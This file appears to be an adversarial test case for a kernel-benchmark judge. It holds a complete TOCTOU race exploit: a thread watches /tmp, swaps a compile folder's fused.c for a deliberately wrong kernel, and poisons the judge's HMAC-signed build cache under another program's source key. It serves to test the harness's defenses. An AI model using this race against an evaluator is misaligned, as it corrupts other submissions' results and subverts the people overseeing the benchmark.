# problem: pointwise
# expect: pass
# why: the harm lands on later runs of pass_c_kernel.py (its exact kernel source is poisoned in the cache); tests/adversarial/test_cache_poisoning.py runs the victim after this candidate and expects it to pass. The poisoner's own forward is correct.
"""Hack: the judge compiles a candidate's C kernel as the candidate's uid, in a /tmp folder it
chowns to that uid. A thread watching /tmp swaps the .c file in that folder for a wrong kernel
before cc reads it, while the request names pass_c_kernel.py's exact source: the wrong library
is stored, with a valid HMAC, under the key of that other program's source."""
import os
import threading
import time

import torch
import torch.nn as nn

from stitchcuda_lab import runtime

VICTIM = r"""
#include <stdint.h>
void fused(const float* x, float* y, int64_t n) {
    #pragma omp parallel for
    for (int64_t i = 0; i < n; ++i) {
        float v = 2.0f * x[i] + 1.0f;
        y[i] = v > 0.0f ? v : 0.0f;
    }
}
"""
EVIL = r"""
#include <stdint.h>
void fused(const float* x, float* y, int64_t n) {
    for (int64_t i = 0; i < n; ++i) y[i] = 0.5f * x[i];   /* wrong on purpose */
}
"""
OWN = r"""
#include <stdint.h>
/* the candidate's own (correct) kernel */
void fused_own(const float* x, float* y, int64_t n) {
    for (int64_t i = 0; i < n; ++i) { float v = 2.0f * x[i] + 1.0f; y[i] = v > 0.0f ? v : 0.0f; }
}
"""
SWAPS = []
_stop = threading.Event()


def _race():
    me = os.getuid()
    seen, done = set(), set()
    while not _stop.is_set():
        try:
            entries = [e for e in os.scandir("/tmp") if e.name.startswith("stitch_cc_")]
        except OSError:
            entries = []
        for e in entries:
            try:
                if e.stat(follow_symlinks=False).st_uid != me or e.path in done:
                    continue
                if os.path.exists(os.path.join(e.path, "fused.so")):
                    done.add(e.path)   # compiled: leave the folder to the judge's cleanup
                    continue
                tmp = os.path.join(e.path, ".swap")
                with open(tmp, "w") as f:
                    f.write(EVIL)
                os.replace(tmp, os.path.join(e.path, "fused.c"))
                if e.path not in seen:
                    seen.add(e.path)
                    SWAPS.append(e.path)
            except OSError:
                pass


_t = threading.Thread(target=_race, daemon=True)
_t.start()
time.sleep(0.05)
try:
    runtime.load(VICTIM, lang="c", name="fused")   # the key of the victim's source
except Exception:  # noqa: BLE001  (a torn race: the poisoner does not care)
    pass
_stop.set()
_t.join()


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        self.mod = runtime.load(OWN, lang="c", name="fused_own")

    def forward(self, x):
        x = x.contiguous()
        y = torch.empty_like(x)
        self.mod.call("fused_own", x, y, x.numel())
        return y
